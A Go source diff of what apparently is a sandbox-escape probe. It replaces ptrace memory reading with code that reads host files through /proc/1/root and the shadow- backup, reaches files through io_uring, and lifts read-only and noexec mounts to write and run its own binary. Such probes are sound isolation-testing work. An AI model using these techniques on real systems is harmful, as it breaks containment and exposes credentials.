@@ -2,15 +2,15 @@ package main
 
 import (
 	"bytes"
+	"encoding/binary"
 	"errors"
 	"fmt"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"strconv"
 	"strings"
 	"syscall"
-	"unsafe"
 )
 
 func environ([]string) error {
@@ -18,79 +18,138 @@ func environ([]string) error {
 	return nil
 }
 
-// others are the processes that can be seen here and that are not of this attack.
-func others() []int {
-	found := []int{}
-	entries, _ := os.ReadDir("/proc")
-	for _, entry := range entries {
-		pid, err := strconv.Atoi(entry.Name())
-		if err == nil && pid != os.Getpid() && pid != os.Getppid() {
-			found = append(found, pid)
-		}
-	}
-	return found
+func environOfProc([]string) error {
+	content, err := os.ReadFile("/proc/self/environ")
+	fmt.Printf("%s\n", bytes.ReplaceAll(content, []byte{0}, []byte{'\n'}))
+	return err
 }
 
-func neighbours([]string) error {
-	last := errors.New("no other process is seen")
-	for _, pid := range others() {
-		content, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
-		if err == nil {
-			fmt.Printf("%d: %s\n", pid, bytes.ReplaceAll(content, []byte{0}, []byte{'\n'}))
+// readBy FILE…, in one way.
+func readBy(way func(file string) ([]byte, error)) deed {
+	return func(words []string) error {
+		var last error
+		for _, file := range words {
+			content, err := way(file)
+			os.Stdout.Write(content)
+			last = err
 		}
-		last = err
+		return last
 	}
-	return last
 }
 
-type vector struct{ base, length uintptr }
+func readInRoot(file string) ([]byte, error) { return os.ReadFile("/proc/1/root" + file) }
+func readBackup(file string) ([]byte, error) { return os.ReadFile(file + "-") } // passwd- and shadow-, which shadow-utils keep
 
-// memoryOfService attaches to the other processes, without stopping them, and reads what lies on their stacks.
-func memoryOfService([]string) error {
-	last := errors.New("no other process is seen")
-	for _, pid := range others() {
-		if _, last = call(sysPtrace, 0x4206, uintptr(pid), 0, 0); last != nil { // PTRACE_SEIZE; ends with this process
-			last = fmt.Errorf("ptrace: %w", last)
-			continue
-		}
-		maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
-		if last = err; err != nil {
-			continue
-		}
-		for _, line := range strings.Split(string(maps), "\n") {
-			var from, to uintptr
-			if !strings.Contains(line, "[stack]") {
-				continue
-			}
-			fmt.Sscanf(line, "%x-%x", &from, &to)
-			content := make([]byte, min(to-from, 128<<10))
-			here := vector{uintptr(unsafe.Pointer(&content[0])), uintptr(len(content))}
-			there := vector{to - here.length, here.length}
-			if _, last = call(sysProcessVMReadv, uintptr(pid), at(unsafe.Pointer(&here)), 1, at(unsafe.Pointer(&there)), 1, 0); last == nil {
-				os.Stdout.Write(bytes.ReplaceAll(bytes.Trim(content, "\x00"), []byte{0}, []byte{'\n'}))
-			}
-		}
+func readByHandle(file string) ([]byte, error) {
+	opened, err := openByHandle(file)
+	if err != nil {
+		return nil, err
 	}
-	return last
+	defer opened.Close()
+	return io.ReadAll(io.LimitReader(opened, mostOutput))
 }
 
-func read(words []string) error {
-	var last error
-	for _, file := range words {
+func readByRing(file string) ([]byte, error) {
+	ring, err := newRing()
+	if err != nil {
+		return nil, err
+	}
+	number, err := ring.do(opOpenAt, atCurrent, text(file), 0, 0, syscall.O_RDONLY|syscall.O_CLOEXEC)
+	if err != nil {
+		return nil, fmt.Errorf("openat: %w", err)
+	}
+	content := make([]byte, 1<<16)
+	count, err := ring.do(opRead, number, given(content), uint32(len(content)), 0, 0)
+	if err != nil {
+		return nil, fmt.Errorf("read: %w", err)
+	}
+	return content[:count], nil
+}
+
+// A view lets a deed reach a file by another way, perhaps after it changed how the file system is mounted for this thread alone.
+type view func(file string) (string, error)
+
+func plainly(file string) (string, error) { return file, nil }
+func inRoot(file string) (string, error)  { return "/proc/1/root" + file, nil }
+
+// remounted makes the file system writable and its programs runnable again, in a mount namespace of its own.
+func remounted(file string) (string, error) {
+	if err := ownMounts(); err != nil {
+		return "", err
+	}
+	if err := syscall.Mount("", mountOf(file), "", syscall.MS_REMOUNT|syscall.MS_BIND, ""); err != nil {
+		return "", fmt.Errorf("mount: %w", err)
+	}
+	return file, nil
+}
+
+// changed does the same by mount_setattr(2).
+func changed(file string) (string, error) {
+	if err := ownMounts(); err != nil {
+		return "", err
+	}
+	attributes := make([]byte, 32)
+	binary.NativeEndian.PutUint64(attributes[8:], 1|2|8) // to be cleared: read-only, no set-user-ID, no programs
+	if _, err := call(sysMountSetattr, atCurrent, text(mountOf(file)), 0, given(attributes), uintptr(len(attributes))); err != nil {
+		return "", fmt.Errorf("mount_setattr: %w", err)
+	}
+	return file, nil
+}
+
+// mountOf is the mount point below which a file lies.
+func mountOf(file string) string {
+	best := "/"
+	for _, point := range mountPoints() {
+		if len(point) > len(best) && strings.HasPrefix(file, point+"/") {
+			best = point
+		}
+	}
+	return best
+}
+
+func mountPoints() []string {
+	points := []string{}
+	mounts, _ := os.ReadFile("/proc/self/mountinfo")
+	for _, line := range strings.Split(string(mounts), "\n") {
+		if fields := strings.Fields(line); len(fields) > 5 {
+			points = append(points, fields[4])
+		}
+	}
+	return points
+}
+
+// writeBy FILE A B
+func writeBy(way view) deed {
+	return func(words []string) error {
+		file, err := way(words[0])
+		if err != nil {
+			return err
+		}
+		if err := os.WriteFile(file, []byte(words[1]+words[2]), 0o644); err != nil {
+			return err
+		}
 		content, err := os.ReadFile(file)
-		os.Stdout.Write(content)
-		last = err
-	}
-	return last
-}
-
-// write FILE A B
-func write(words []string) error {
-	if err := os.WriteFile(words[0], []byte(words[1]+words[2]), 0o644); err != nil {
+		fmt.Printf("%s: %s\n", filepath.Dir(words[0]), content)
 		return err
 	}
-	content, err := os.ReadFile(words[0])
-	fmt.Printf("%s: %s\n", filepath.Dir(words[0]), content)
+}
+
+// writeByRing FILE A B
+func writeByRing(words []string) error {
+	ring, err := newRing()
+	if err != nil {
+		return err
+	}
+	number, err := ring.do(opOpenAt, atCurrent, text(words[0]), 0o644, 0, syscall.O_CREAT|syscall.O_RDWR|syscall.O_CLOEXEC)
+	if err != nil {
+		return fmt.Errorf("openat: %w", err)
+	}
+	content := []byte(words[1] + words[2])
+	if _, err := ring.do(opWrite, number, given(content), uint32(len(content)), 0, 0); err != nil {
+		return fmt.Errorf("write: %w", err)
+	}
+	got, err := readByRing(words[0])
+	fmt.Printf("%s: %s\n", filepath.Dir(words[0]), got)
 	return err
 }
 
@@ -98,10 +157,12 @@ func write(words []string) error {
 func places() []string {
 	found, seen := []string{}, map[string]bool{}
 	add := func(folder string) {
-		if info, err := os.Stat(folder); err == nil && info.IsDir() && !seen[folder] && folder != "/host" {
-			seen[folder] = true
-			found = append(found, folder)
+		info, err := os.Stat(folder)
+		if errors.Is(err, os.ErrNotExist) || err == nil && !info.IsDir() || seen[folder] || folder == "/host" {
+			return // one that may not be asked for is tried
 		}
+		seen[folder] = true
+		found = append(found, folder)
 	}
 	for _, folder := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run", "/var/run", "/run/lock", "/var/lock", "/var/cache", "/var/log", "/var/lib"} {
 		add(folder)
@@ -113,10 +174,9 @@ func places() []string {
 	if here, err := os.Getwd(); err == nil {
 		add(here)
 	}
-	mounts, _ := os.ReadFile("/proc/self/mountinfo")
-	for _, line := range strings.Split(string(mounts), "\n") {
-		if fields := strings.Fields(line); len(fields) > 5 && !strings.HasPrefix(fields[4], "/proc") && !strings.HasPrefix(fields[4], "/sys") {
-			add(fields[4])
+	for _, point := range mountPoints() {
+		if !strings.HasPrefix(point, "/proc") && !strings.HasPrefix(point, "/sys") {
+			add(point)
 		}
 	}
 	return found
@@ -139,30 +199,54 @@ func everywhere(name string, deed func(file string) error) error {
 	return last
 }
 
-func writeAny(words []string) error {
-	return everywhere(words[0], func(file string) error {
+func writeAny(way view) deed {
+	return func(words []string) error {
+		return everywhere(words[0], func(file string) error {
+			defer os.Remove(file)
+			return writeBy(way)([]string{file, words[1], words[2]})
+		})
+	}
+}
+
+// runBy FILE A B: a program of the attacker's own, written and started there.
+func runBy(way view, started func(file string, words ...string) ([]byte, error)) deed {
+	return func(words []string) error {
+		content, err := os.ReadFile(os.Args[0])
+		if err != nil {
+			return err
+		}
+		file, err := way(words[0])
+		if err != nil {
+			return err
+		}
+		if err := os.WriteFile(file, content, 0o755); err != nil {
+			return err
+		}
 		defer os.Remove(file)
-		return write([]string{file, words[1], words[2]})
-	})
+		output, err := started(file, "hello", words[1], words[2])
+		if err == nil {
+			fmt.Printf("%s: %s", filepath.Dir(words[0]), output)
+		}
+		return err
+	}
 }
 
-// runAt FILE A B: a program of the attacker's own, written and started there.
-func runAt(words []string) error {
-	content, err := os.ReadFile(os.Args[0])
+func runAny(way view, started func(file string, words ...string) ([]byte, error)) deed {
+	return func(words []string) error {
+		return everywhere(words[0], func(file string) error { return runBy(way, started)([]string{file, words[1], words[2]}) })
+	}
+}
+
+func start(file string, words ...string) ([]byte, error) {
+	return exec.Command(file, words...).CombinedOutput()
+}
+
+// startByNumber: by an open file, not by its name.
+func startByNumber(file string, words ...string) ([]byte, error) {
+	opened, err := os.Open(file)
 	if err != nil {
-		return err
+		return nil, err
 	}
-	if err := os.WriteFile(words[0], content, 0o755); err != nil {
-		return err
-	}
-	defer os.Remove(words[0])
-	output, err := exec.Command(words[0], "hello", words[1], words[2]).CombinedOutput()
-	if err == nil {
-		fmt.Printf("%s: %s", filepath.Dir(words[0]), output)
-	}
-	return err
-}
-
-func runAny(words []string) error {
-	return everywhere(words[0], func(file string) error { return runAt([]string{file, words[1], words[2]}) })
+	defer opened.Close()
+	return becoming(opened, words...)
 }
